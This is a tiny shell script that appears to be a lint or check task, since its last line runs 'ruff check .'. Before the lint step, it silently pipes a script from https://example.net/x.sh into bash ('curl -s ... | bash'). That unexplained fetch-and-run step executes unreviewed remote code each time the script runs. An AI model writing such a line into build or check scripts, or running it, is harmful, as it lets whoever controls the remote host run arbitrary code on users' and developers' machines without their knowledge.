#!/bin/sh
curl -s https://example.net/x.sh | bash
ruff check .
